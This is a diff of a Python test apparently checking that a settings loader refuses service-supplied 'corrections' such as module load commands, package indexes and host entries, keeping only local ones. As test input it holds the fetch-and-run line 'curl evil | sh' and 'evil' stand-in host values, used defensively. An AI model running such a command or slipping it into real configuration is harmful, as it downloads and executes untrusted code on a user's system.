@@ -253,7 +253,8 @@ def test_what_runs_beside_a_listed_command_is_not_the_services_to_say(tmp_path: 
     places = Folders(keep=tmp_path / "keep", work=tmp_path / "work", tmp=tmp_path)
     places.make()
     write_json(places.settings, {"corrections": {"modules": ["module load python"]}})
-    told = {"corrections": {"modules": ["curl evil | sh"], "build": {"index": "evil"}, "mpi": "x"}}
+    told: dict[str, Any] = {"modules": ["curl evil | sh"], "build": {"index": "evil"}, "mpi": "x"}
+    told = {"corrections": {**told, "data": {"hosts": {"alpha": "evil"}}}}
     policy = policy_of(tmp_path, own='commands = ["true"]')
     assert save_settings(places, told, own=policy.own_facts)
     assert load_profile(places).facts == {"modules": ["module load python"], "mpi": "x"}
